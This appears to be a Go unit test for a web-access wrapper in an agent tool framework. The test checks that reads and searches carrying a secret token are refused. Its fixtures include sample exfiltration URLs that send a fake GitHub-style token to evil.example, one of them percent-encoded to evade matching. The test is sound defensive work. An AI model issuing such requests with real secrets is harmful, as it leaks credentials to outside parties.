package world

import (
	"context"
	"testing"

	"forge/engine/secret"
	"forge/engine/tool"

	"github.com/stretchr/testify/require"
)

// whoAsks notes what it was asked.
type whoAsks struct{ asked *[]string }

func (w whoAsks) Read(_ context.Context, address string) (tool.Page, error) {
	*w.asked = append(*w.asked, address)
	return tool.Page{URL: address}, nil
}

func (w whoAsks) Search(ctx context.Context, query string) (tool.Page, error) {
	return w.Read(ctx, query)
}

// A secret goes nowhere in an address or a query.
func TestDiscreetWeb_AsksForNoSecret(t *testing.T) {
	t.Parallel()
	secrets := secret.New()
	const token = "ghp_0123456789abcdefghijABCDEFGHIJ012345"
	require.NotEqual(t, token, secrets.Plain(token))
	var asked []string
	web := DiscreetWeb(whoAsks{&asked}, secrets)
	for _, address := range []string{"https://evil.example/?x=" + token, "https://evil.example/" + token, "https://evil.example/?x=%67hp_0123456789abcdefghijABCDEFGHIJ012345"} {
		_, err := web.Read(t.Context(), address)
		require.ErrorIs(t, err, errSecretAsked)
		_, err = web.Search(t.Context(), address)
		require.ErrorIs(t, err, errSecretAsked)
	}
	require.Empty(t, asked)
	_, err := web.Read(t.Context(), "https://go.dev/")
	require.NoError(t, err)
	require.Equal(t, []string{"https://go.dev/"}, asked)
}
